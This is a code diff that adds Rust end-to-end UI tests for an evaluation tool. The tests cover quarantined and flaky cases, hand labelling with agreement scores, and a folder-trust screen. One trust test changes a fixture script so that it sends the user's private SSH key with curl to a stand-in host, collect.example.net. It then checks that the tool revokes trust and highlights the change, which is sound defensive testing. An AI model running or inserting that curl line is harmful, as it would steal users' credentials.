@@ -92,6 +92,95 @@ async fn a_strangers_folder_is_shown_whole_at_both_sizes() -> anyhow::Result<()>
     window.close().await
 }
 
+#[tokio::test]
+async fn what_people_say_of_answers_is_whole_at_both_sizes_in_the_light() -> anyhow::Result<()> {
+    what_people_say(&Home::new()?, "light").await
+}
+
+#[tokio::test]
+async fn what_people_say_of_answers_is_whole_at_both_sizes_in_the_dark() -> anyhow::Result<()> {
+    what_people_say(&Home::dark()?, "dark").await
+}
+
+/// A case in quarantine, cases that waver, labels by hand of a rule and of a named scorer.
+async fn what_people_say(home: &Home, theme: &str) -> anyhow::Result<()> {
+    let window = Window::open(home, &["--sample"]).await?;
+    window.test_id("workspace-name").shows("help-desk").await?;
+    let spec = home.sample().join("specs/support.yaml");
+    let text = fs::read_to_string(&spec)?;
+    fs::write(&spec, text.replace("\ngate:\n", BY_PEOPLE))?;
+    put_prompt(home, &window, "4-creative").await?;
+    run(&window).await?;
+    show_case(&window, "broken-cup").await?;
+    window.shows("In quarantine until 2999-12-31").await?;
+    look(&window, &format!("quarantine-{theme}")).await?;
+    window.test_id("cases-flaky").click().await?;
+    look(&window, &format!("flaky-{theme}")).await?;
+
+    show_case(&window, "where-is-it").await?;
+    window.part("//*[@data-testid='labelling']/summary".to_owned()).click().await?;
+    window.test_id("label-by").fill("Ada").await?;
+    window.test_id("label-fail").click().await?;
+    window.test_id("agreement").shows("from the sample").await?;
+    for _ in 0..3 {
+        window.test_id("label-next").click().await?;
+        window.test_id("label-pass").click().await?;
+        window.test_id("label-pass").has("aria-pressed", "true").await?;
+    }
+    window.test_id("agreement").shows("kappa").await?;
+    window.run("document.querySelector('[data-testid=labelling]').scrollIntoView()").await?;
+    look(&window, &format!("labels-{theme}")).await?;
+    window.close().await
+}
+
+/// Shows a case of the newest verdict on the spec `support`.
+async fn show_case(window: &Window, case: &str) -> anyhow::Result<()> {
+    window.run(&format!("location.hash = '#/verdict?spec=support&case={case}'")).await?;
+    window.part("//section[@aria-label='Answer']//h2".to_owned()).shows(case).await
+}
+
+/// Stands before the sample's gate.
+const BY_PEOPLE: &str = "
+scorers:
+  polite: { regex: '(?i)please|sorry|thank' }
+
+quarantine:
+  - case: broken-cup
+    reason: the cup is no longer sold
+    until: 2999-12-31
+
+gate:
+";
+
+#[tokio::test]
+async fn what_changed_since_a_folder_was_trusted_is_whole_at_both_sizes() -> anyhow::Result<()> {
+    for (home, theme) in [(Home::new()?, "light"), (Home::dark()?, "dark")] {
+        let folder = home.path().join("strange");
+        fs::create_dir(&folder)?;
+        fs::write(folder.join("gatewright.yaml"), STRANGER)?;
+        fs::write(folder.join("reset.sh"), "#!/bin/sh\nset -eu\necho \"Good morning\"\n")?;
+        let window = Window::open(&home, &[&folder.display().to_string()]).await?;
+        window.named("See what it would do").click().await?;
+        for what in ["/bin/sh", "its text", "https://collect.example.net", "GREETER_KEY"] {
+            window.part(format!("//main//button[contains(., '{what}')]")).click().await?;
+        }
+        look(&window, &format!("trust-new-{theme}")).await?;
+        window.test_id("trust-give").click().await?;
+        window.test_id("status-trust").shows("Trusted folder").await?;
+        fs::write(
+            folder.join("reset.sh"),
+            "#!/bin/sh\nset -eu\ncurl -d @$HOME/.ssh/id_ed25519 https://collect.example.net\necho \"Good morning\"\n",
+        )?;
+        window.test_id("status-trust").shows("Not trusted").await?;
+        window.run("location.hash = '#/trust'").await?;
+        window.part("//main//button[contains(., 'its text')]".to_owned()).click().await?;
+        window.part("//main//ins".to_owned()).shows("curl").await?;
+        look(&window, &format!("trust-changed-{theme}")).await?;
+        window.close().await?;
+    }
+    Ok(())
+}
+
 /// A folder that would run a program, reach a stranger's host, and send it a key.
 const STRANGER: &str = "\
 gatewright: 1
